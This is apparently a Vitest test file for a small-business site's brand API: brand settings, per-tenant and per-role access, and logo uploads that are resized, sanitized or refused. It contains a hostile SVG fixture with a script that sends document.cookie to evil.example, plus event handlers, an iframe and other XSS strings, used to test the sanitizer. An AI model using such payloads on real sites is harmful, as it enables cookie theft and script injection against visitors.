/**
 * The brand API (issue 18, api/routes/brand.ts) against a real libSQL file and real files under
 * DATA_DIR/uploads/logos: read and change a business's brand, logo uploads (raster resized once,
 * SVG sanitized, disallowed files refused with a message), access per tenant and role, and a publish
 * queued by every write.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { and, eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { demoOwnerEmail, ensureDemoAccounts } from '#api/auth/accounts.ts';
import { hashPassword } from '#api/auth/passwords.ts';
import { dataPaths } from '#db/config.ts';
import * as s from '#db/schema.ts';
import { json, startHarness, type Harness } from './harness.ts';

const PASSWORD = 'Harbor9lights';
const SLUG = 'prestige-mobile-detailing';
const STRANGER_SLUG = 'sharp-edge-barbers';
const BRAND = `/api/tenants/${SLUG}/brand`;
let h: Harness;
let tenantId: number;
let owner: string;
let stranger: string;
let admin: string;
let viewer: string;

async function signIn(email: string): Promise<string> {
  const res = await h.request('/api/auth/login', json({ email, password: PASSWORD }));
  expect(res.status, email).toBe(200);
  return (await res.json()).accessToken;
}

beforeAll(async () => {
  h = await startHarness({ publish: false });
  await ensureDemoAccounts(h.db, PASSWORD);
  tenantId = (await h.db.select().from(s.tenants).where(eq(s.tenants.slug, SLUG)).get())!.id;
  await h.db
    .insert(s.users)
    .values({ email: 'viewer@prestige.example', passwordHash: await hashPassword(PASSWORD), tenantId, staffRole: 'viewer' });
  [owner, stranger, admin, viewer] = await Promise.all([
    signIn(demoOwnerEmail(SLUG)),
    signIn(demoOwnerEmail(STRANGER_SLUG)),
    signIn('admin@demo.example'),
    signIn('viewer@prestige.example'),
  ]);
});
afterAll(() => h?.close());

const call = (url: string, token: string | undefined, init: RequestInit = {}) =>
  h.request(url, {
    ...init,
    headers: { ...(init.headers as Record<string, string>), ...(token ? { Authorization: `Bearer ${token}` } : {}) },
  });
const put = (token: string | undefined, body: unknown) =>
  call(BRAND, token, { method: 'PUT', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
const uploadLogo = (token: string | undefined, file: Blob | undefined, fields: Record<string, string> = {}, name = 'logo.png') => {
  const form = new FormData();
  if (file) form.set('logo', file, name);
  for (const [key, value] of Object.entries(fields)) form.set(key, value);
  return call(`${BRAND}/logo`, token, { method: 'POST', body: form });
};
const blob = (bytes: Uint8Array | string, type: string) => new Blob([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], { type });
const png = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 4, background: { r: 180, g: 83, b: 31, alpha: 0.9 } } })
    .png()
    .toBuffer();
const fileOf = (url: string) => path.join(dataPaths(h.config).uploads, 'logos', path.basename(url));

const clearJobs = () => h.db.delete(s.publishJobs).where(eq(s.publishJobs.tenantId, tenantId));
const queuedReason = async () =>
  (
    await h.db
      .select()
      .from(s.publishJobs)
      .where(and(eq(s.publishJobs.tenantId, tenantId), eq(s.publishJobs.state, 'queued')))
      .get()
  )?.reason;

const HOSTILE_SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="240" height="80" viewBox="0 0 240 80" onload="alert('x')">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <image xlink:href="https://evil.example/pixel.png" width="1" height="1"/>
  <foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>
  <rect width="240" height="80" rx="12" fill="#0e7490" onclick="alert(1)"/>
  <circle cx="40" cy="40" r="24" fill="#f4b860"/>
</svg>`;

describe('GET /api/tenants/:slug/brand', () => {
  it("answers the brand with the theme's palette and its contrast decisions", async () => {
    const res = await call(BRAND, viewer);
    expect(res.status).toBe(200);
    const { data } = await res.json();
    expect(data).toMatchObject({
      theme: expect.any(String),
      colors: { primary: expect.toBeOneOf([null, expect.stringMatching(/^#[0-9A-F]{6}$/)]) },
      defaults: { primary: expect.stringMatching(/^#[0-9A-Fa-f]{6}$/), surface: expect.any(String) },
      contrast: { primary: { passes: expect.any(Boolean), siteUses: expect.any(String), required: 4.5 }, primaryDark: { required: 7 } },
      mainSiteSEO: { title: expect.toBeOneOf([null, expect.any(String)]) },
      updatedAt: expect.any(String),
    });
  });

  it('is for the business staff and admins only', async () => {
    expect((await call(BRAND, undefined)).status).toBe(401);
    expect((await call(BRAND, stranger)).status).toBe(403);
    expect((await call(BRAND, admin)).status).toBe(200);
    expect((await call('/api/tenants/no-such-business/brand', admin)).status).toBe(404);
  });
});

describe('PUT /api/tenants/:slug/brand', () => {
  beforeEach(() => clearJobs());

  it('saves colours, theme, tagline, SEO and trust details, queues a publish, and GET answers them', async () => {
    const res = await put(owner, {
      theme: 'coastal',
      tagline: 'Showroom shine, in your driveway',
      colors: { primary: '#facc15', accent: '#0e7490' },
      mainSiteSEO: { title: 'Prestige Mobile Detailing | Phoenix', description: 'Ceramic coating and detailing at your home.' },
      businessLicense: 'ROC 334455',
      insuranceProvider: 'State Farm',
      insuranceExpiry: '2099-12-31',
      businessStartDate: '2015-03-01',
    });
    expect(res.status).toBe(200);
    const { data } = await res.json();
    expect(data).toMatchObject({
      theme: 'coastal',
      tagline: 'Showroom shine, in your driveway',
      colors: { primary: '#FACC15', primaryDark: null, accent: '#0E7490' },
      defaults: { primary: '#0E7490', surface: '#F0F9FF' },
      mainSiteSEO: { title: 'Prestige Mobile Detailing | Phoenix' },
      insured: true,
      yearsInBusiness: expect.any(Number),
    });
    // Yellow behind white text fails AA: the site paints a darker yellow instead, and says which.
    expect(data.contrast.primary).toMatchObject({ passes: false });
    expect(data.contrast.primary.siteUses).not.toBe('#facc15');
    expect(await queuedReason()).toBe('brand saved');
    expect((await (await call(BRAND, owner)).json()).data).toEqual(data);
  });

  it('takes back what GET answered, and null clears a field to its fallback', async () => {
    const { data } = await (await call(BRAND, owner)).json();
    const res = await put(owner, { ...data, tagline: null, colors: { ...data.colors, primary: null }, insuranceExpiry: '2000-01-01' });
    expect(res.status).toBe(200);
    const saved = (await res.json()).data;
    expect(saved).toMatchObject({ tagline: null, colors: { primary: null }, insured: false });
    expect(saved.contrast.primary).toMatchObject({ passes: true, siteUses: saved.defaults.primary.toLowerCase() });
  });

  it('refuses bad input with 400 and the spec messages per field, saving nothing', async () => {
    const res = await put(owner, {
      theme: 'neon',
      colors: { primary: 'blue' },
      mainSiteSEO: { title: 'x'.repeat(61), description: 'y'.repeat(161) },
      insuranceExpiry: 'soon',
    });
    expect(res.status).toBe(400);
    expect((await res.json()).fields).toEqual({
      theme: 'Theme not found',
      'colors.primary': 'Must be a valid hex color',
      'mainSiteSEO.title': 'SEO title should be under 60 characters',
      'mainSiteSEO.description': 'SEO description should be under 160 characters',
      insuranceExpiry: 'Must be a date (YYYY-MM-DD)',
    });
    expect((await put(owner, { colour: '#000000' })).status).toBe(400);
    expect((await (await put(owner, { colour: '#000000' })).json()).fields).toEqual({ colour: 'Unknown field: colour' });
    expect(await queuedReason()).toBeUndefined();
  });

  it('refuses a viewer (read only) and another business owner', async () => {
    expect((await put(viewer, { tagline: 'Mine now' })).status).toBe(403);
    expect((await put(stranger, { tagline: 'Mine now' })).status).toBe(403);
    expect((await put(undefined, { tagline: 'Mine now' })).status).toBe(401);
  });
});

describe('logo upload', () => {
  beforeEach(() => clearJobs());

  it('resizes a PNG once to fit 800x400 and stores it as WebP with its size', async () => {
    const res = await uploadLogo(owner, blob(await png(1600, 400), 'image/png'));
    expect(res.status).toBe(201);
    const { data } = await res.json();
    expect(data.logo).toMatchObject({
      url: expect.stringMatching(/^\/uploads\/logos\/\d+-[0-9a-f]{16}-800\.webp$/),
      width: 800,
      height: 200,
    });
    expect(data.logo.alt).toBe('Prestige Mobile Detailing');
    expect(data.favicon).toBe(data.logo.url);
    const meta = await sharp(readFileSync(fileOf(data.logo.url))).metadata();
    expect(meta).toMatchObject({ format: 'webp', width: 800, height: 200, hasAlpha: true });
    expect(await queuedReason()).toBe('logo uploaded (main)');
  });

  it('stores an SVG logo sanitized: no script, handler, foreign object or outside reference survives', async () => {
    const res = await uploadLogo(owner, blob(HOSTILE_SVG, 'image/svg+xml'), {}, 'logo.svg');
    expect(res.status).toBe(201);
    const { data } = await res.json();
    expect(data.logo).toMatchObject({ url: expect.stringMatching(/\.svg$/), width: 240, height: 80 });
    const stored = readFileSync(fileOf(data.logo.url), 'utf8');
    expect(stored).not.toMatch(/script|onload|onclick|foreignObject|iframe|evil\.example|alert/i);
    expect(stored).toContain('<circle cx="40" cy="40" r="24" fill="#f4b860"/>');
  });

  it('keeps the alt text the owner wrote when the logo is replaced, and retires the old file', async () => {
    await put(owner, { logo: { alt: 'Prestige shield logo' } });
    const before = (await (await call(BRAND, owner)).json()).data.logo.url;
    const { data } = await (await uploadLogo(owner, blob(await png(300, 300), 'image/png'))).json();
    expect(data.logo.alt).toBe('Prestige shield logo');
    const old = await h.db.select().from(s.uploads).where(eq(s.uploads.path, before)).get();
    expect(old?.retiredAt).toEqual(expect.any(Number));
  });

  it('takes dark and light variants, and removing the main logo removes them too', async () => {
    const dark = await uploadLogo(owner, blob(await png(400, 100), 'image/png'), { variant: 'dark' });
    expect(dark.status).toBe(201);
    const light = await (await uploadLogo(owner, blob(await png(400, 100), 'image/png'), { variant: 'light' })).json();
    expect(light.data.logo).toMatchObject({
      darkUrl: expect.stringMatching(/^\/uploads\/logos\//),
      lightUrl: expect.stringMatching(/^\/uploads\/logos\//),
    });
    const noDark = await call(`${BRAND}/logo?variant=dark`, owner, { method: 'DELETE' });
    expect((await noDark.json()).data.logo.darkUrl).toBeNull();
    // Removing it again already holds: the brand as it is.
    const again = await call(`${BRAND}/logo?variant=dark`, owner, { method: 'DELETE' });
    expect(again.status).toBe(200);
    expect((await again.json()).data.logo.darkUrl).toBeNull();
    const gone = await call(`${BRAND}/logo`, owner, { method: 'DELETE' });
    expect((await gone.json()).data).toMatchObject({ logo: null, favicon: null });
    expect(await queuedReason()).toBe('logo uploaded (dark)');
  });

  it.each([
    [
      'a GIF',
      async () =>
        blob(
          await sharp({ create: { width: 10, height: 10, channels: 3, background: '#000' } })
            .gif()
            .toBuffer(),
          'image/gif',
        ),
      'Logo must be a PNG, JPEG, WebP or SVG image',
    ],
    ['a text file named .png', async () => blob('hello, not an image', 'image/png'), 'Logo must be a PNG, JPEG, WebP or SVG image'],
    [
      'an HTML page',
      async () => blob('<html><script>alert(1)</script></html>', 'image/svg+xml'),
      'Logo must be a PNG, JPEG, WebP or SVG image',
    ],
    [
      'an SVG of nothing but a script',
      async () => blob('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', 'image/svg+xml'),
      'The SVG has nothing left to show once scripts and external references are removed',
    ],
    ['a file over 2 MB', async () => blob(new Uint8Array(2 * 1024 * 1024 + 10).fill(65), 'image/png'), 'Logo file must be less than 2MB'],
  ])('refuses %s with 400 and a message', async (_name, make, message) => {
    const res = await uploadLogo(owner, await make());
    expect(res.status).toBe(400);
    expect(await res.json()).toMatchObject({ success: false, fields: { logo: message } });
    expect(await queuedReason()).toBeUndefined();
  });

  it('refuses a missing file, an unknown variant, a viewer and another business', async () => {
    expect((await (await uploadLogo(owner, undefined)).json()).fields).toEqual({ logo: 'Logo file is required' });
    const variant = await uploadLogo(owner, blob(await png(10, 10), 'image/png'), { variant: 'huge' });
    expect((await variant.json()).fields).toEqual({ variant: 'Variant must be one of main, dark, light' });
    expect((await uploadLogo(viewer, blob(await png(10, 10), 'image/png'))).status).toBe(403);
    expect((await uploadLogo(stranger, blob(await png(10, 10), 'image/png'))).status).toBe(403);
  });
});

describe('demo brands', () => {
  it('two demo businesses carry their own logo, colours and theme, each logo on disk', async () => {
    const brands = await Promise.all(
      ['evergreen-lawn-care', 'pampered-paws-grooming'].map(
        async (slug) => (await (await call(`/api/tenants/${slug}/brand`, admin)).json()).data,
      ),
    );
    expect(brands.map((b) => b.theme)).toEqual(['classic', 'modern']);
    for (const brand of brands) {
      expect(brand).toMatchObject({ logo: { width: 360, height: 96 }, insured: true, tagline: expect.any(String) });
      expect(brand.colors.primary).not.toBe(brand.defaults.primary);
      expect(brand.contrast.primary.passes && brand.contrast.primaryDark.passes).toBe(true);
      expect(readFileSync(fileOf(brand.logo.url), 'utf8')).toMatch(/^<svg /);
    }
    expect(brands[0].colors.primary).not.toBe(brands[1].colors.primary);
  });
});
